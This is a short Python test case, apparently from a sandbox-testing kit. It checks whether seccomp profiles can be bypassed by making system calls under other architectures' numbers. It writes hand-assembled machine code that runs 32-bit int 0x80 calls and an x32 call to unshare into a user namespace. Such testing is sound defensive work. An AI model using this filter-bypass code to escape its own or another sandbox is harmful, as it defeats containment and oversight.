# does: makes forbidden calls under the numbers of other machines: those of 32 bits, and x32
# stopped by: seccomp ends a process that comes by another architecture, and knows no number that high
# profiles: A B
# off: leaked
# check: a key of the kernel could be read, or a namespace made
import ctypes
import mmap
import os
from kit import absent, call, parts, possible



def attack():
    def old(number, argument):
        page = mmap.mmap(-1, 4096, prot=7)
        # push rbx; mov eax, NUMBER; mov ebx, ARGUMENT; int 0x80; pop rbx; ret
        page.write(b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
        at = ctypes.addressof(ctypes.c_char.from_buffer(page))
        done = ctypes.CFUNCTYPE(ctypes.c_int)(at)()
        if done < 0:
            raise OSError(-done, os.strerror(-done))

    def in_child(action):
        child = os.fork()
        if child == 0:
            try:
                action()
            except OSError as error:
                os._exit(error.errno)
            os._exit(0)
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        if status != 0:
            raise OSError(abs(status), f"ended with {status}")
    # getpid shows whether the machine has these numbers at all; then unshare(CLONE_NEWUTS | CLONE_NEWUSER).
    try:
        in_child(lambda: old(20, 0))
        there = True
    except OSError:
        there = False
    possible("unshare of 32 bits", lambda: in_child(lambda: old(310, 0x10000000)))
    possible("unshare of x32", lambda: in_child(lambda: call(0x40000000 | 272, 0x10000000)))
    if not there:
        absent("calls of 32 bits")


parts(attack)
